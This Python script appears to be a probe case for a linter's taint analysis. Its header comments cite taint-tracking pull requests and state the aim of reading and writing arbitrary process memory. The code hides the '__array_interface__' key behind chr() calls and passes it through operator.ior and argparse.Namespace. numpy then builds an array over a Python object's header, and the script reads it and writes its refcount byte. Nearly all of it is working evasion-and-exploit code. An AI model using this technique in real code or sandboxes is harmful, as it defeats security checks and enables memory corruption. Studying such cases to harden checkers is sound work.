# source: https://github.com/unslothai/unsloth-zoo/pull/1113 (review: bindings through subscript/for/with targets and calls that mutate a value, which a linter's taint map did not follow); https://github.com/semgrep/semgrep/pull/10175 (taint through container (un)packing); numpy array interface protocol, https://numpy.org/doc/stable/reference/arrays.interface.html ("data": (address, read_only) is trusted)
# family: a computed key put into the dict the check trusts as a display with literal keys, by operator.ior(kw, {...}), the function form of kw |= {...}; then argparse.Namespace(**kw) setattr()s __array_interface__
# goal: an ndarray over any address (a Python object's header): read and write process memory outside what Python bounds
import numpy as np
import argparse
import operator
import pandas as pd


class Box:
    pass


class Ctx:
    def __init__(self, v):
        self.v = v

    def __enter__(self):
        return self.v

    def __exit__(self, typ, val, tb):
        return False


box = Box()
addr = int(repr(box).split(" at ")[1].rstrip(">"), 16)
u2 = chr(95) * 2
key = u2 + "array" + chr(95) + "interface" + u2
spec = {"data": (addr, False), "shape": (16,), "typestr": "|u1", "version": 3}
kw = {"window": 20}
operator.ior(kw, {key: spec})
ns = argparse.Namespace(**kw)              # setattr(ns, "__array_interface__", spec)
raw = np.asarray(ns)                       # an array over the address numpy was handed
print("address", hex(addr))
print("object header bytes read through the forged array:", raw.tolist())
raw[0] = raw[0] + 5
print("refcount byte after a write through it:", raw[0])
